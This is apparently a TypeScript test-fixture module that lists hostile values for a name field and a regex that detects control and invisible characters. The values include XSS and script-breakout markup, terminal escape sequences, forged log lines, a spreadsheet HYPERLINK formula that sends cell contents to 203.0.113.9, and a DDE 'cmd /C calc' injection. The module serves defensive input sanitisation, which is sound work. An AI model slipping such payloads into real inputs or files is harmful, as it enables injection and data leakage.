/** What attackers write where a name belongs, and what none of it may ever become. */

export const hostile = {
  markup: '<img src=x onerror="document.title=1">',
  script: '</script><script>document.title=1</script>',
  override: '\u202egnp.exe',
  escapes: '\u001b]0;owned\u0007\u001b[31mred\u001b[2J',
  lines: 'root\r\n2026-11-22 12:00:00  login     forged line',
  invisible: 'ro\u200bot\u00ad\u2066x\u{e0041}',
  marks: `z${'\u0301'.repeat(200)}`,
  formula: '=HYPERLINK("http://203.0.113.9/?"&A1,"open")',
  wideFormula: '＝1+1',
  command: "=cmd|' /C calc'!A0",
  tabbed: '\t=1+1',
  quoted: '"\r\n=1+1,"',
  long: 'x'.repeat(5000),
  prototype: '__proto__',
  markdown: '*bold* [link](http://203.0.113.9) `code`',
} as const

export const hostileNames: readonly string[] = Object.values(hostile)

/** Characters that act on a terminal or on what stands beside them; a line end is none of these. */
export const acting =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u
